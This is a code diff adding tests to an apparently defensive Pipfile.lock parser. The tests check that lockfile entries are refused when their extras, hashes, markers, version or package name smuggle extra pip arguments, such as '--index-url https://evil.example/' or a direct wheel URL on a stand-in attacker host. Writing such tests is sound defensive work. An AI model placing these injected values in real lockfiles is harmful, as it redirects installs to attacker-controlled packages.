@@ -213,3 +213,38 @@ def test_recognition() -> None:
     assert FORMAT.looks_like(json.dumps({"_meta": {}, "default": {}}, indent=2))
     assert not FORMAT.looks_like('{"dependencies": {}}')
     assert not FORMAT.looks_like("six==1")
+
+
+EVIL = "https://evil.example/x-1-py3-none-any.whl"
+
+
+@pytest.mark.parametrize(
+    ("entry", "reason"),
+    [
+        ({"extras": [f"] @ {EVIL} #"]}, "extras: holds what is no extra's name"),
+        ({"extras": ["a]\n--index-url https://evil.example/\nx["]}, "holds what is no extra's name"),
+        (
+            {"hashes": ["sha256:aa --index-url https://evil.example/"]},
+            "hashes: holds what is no hash",
+        ),
+        ({"hashes": ["sha256:aa\n--index-url https://evil.example/"]}, "holds what is no hash"),
+        (
+            {"markers": "os_name == 'a'\n--index-url https://evil.example/"},
+            "markers: has more than one",
+        ),
+        ({"os_markers": f"os_name == 'a'\r{EVIL}"}, "os_markers: has more than one line"),
+        ({"version": f"==1\n{EVIL}"}, "version: has more than one line"),
+    ],
+)
+def test_what_pipenv_would_hand_to_pip_beside_the_entry_is_refused(
+    entry: dict[str, Any], reason: str
+) -> None:
+    """Measured: Pipenv 2026 installs the first from evil.example."""
+    with pytest.raises(LockfileError, match=reason):
+        only({"version": "==1"} | entry)
+
+
+def test_a_key_that_is_no_name_is_refused() -> None:
+    with pytest.raises(LockfileError, match="is no package name") as caught:
+        read(json.dumps({"default": {f"x @ {EVIL} #": {"version": "==1"}}}, indent=1))
+    assert caught.value.line == 3
